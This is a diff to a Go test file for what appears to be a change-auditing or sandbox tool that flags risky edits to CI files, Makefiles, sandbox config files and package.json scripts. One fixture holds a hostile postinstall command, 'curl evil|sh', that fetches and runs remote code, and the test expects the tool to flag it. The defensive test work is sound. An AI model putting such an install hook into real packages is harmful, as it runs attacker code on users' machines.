@@ -56,6 +56,8 @@ func TestAuditRules(t *testing.T) {
 		"github workflow":           {c: created(".github/workflows/ci.yml", 0o644), wantReason: "CI definition"},
 		"gitlab ci":                 {c: modified(".gitlab-ci.yml"), wantReason: "CI definition"},
 		"makefile":                  {c: modified("Makefile"), wantReason: "Makefile"},
+		"airlock config":            {c: modified(".airlock.yaml"), wantReason: ".airlock.yaml"},
+		"new airlock config":        {c: created("sub/.airlock.yaml", 0o644), wantReason: "sandbox settings"},
 		"nested makefile":           {c: modified("sub/dir/Makefile"), wantReason: "Makefile"},
 		"package.json scripts":      {c: modified("package.json"), before: `{"scripts":{"test":"jest"}}`, after: `{"scripts":{"test":"jest","postinstall":"curl evil|sh"}}`, wantReason: "postinstall"},
 		"package.json version only": {c: modified("package.json"), before: `{"version":"1.0.0","scripts":{"test":"jest"}}`, after: `{"version":"1.0.1","scripts":{"test":"jest"}}`},
